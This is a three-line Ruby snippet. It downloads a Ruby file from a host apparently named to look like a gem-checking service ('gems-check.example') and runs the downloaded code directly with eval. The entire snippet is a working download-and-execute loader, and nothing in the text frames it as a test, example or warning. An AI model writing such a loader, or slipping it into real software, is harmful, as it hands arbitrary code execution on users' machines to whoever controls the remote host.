require 'open-uri'
code = URI.open('https://gems-check.example/r.rb').read
eval(code)
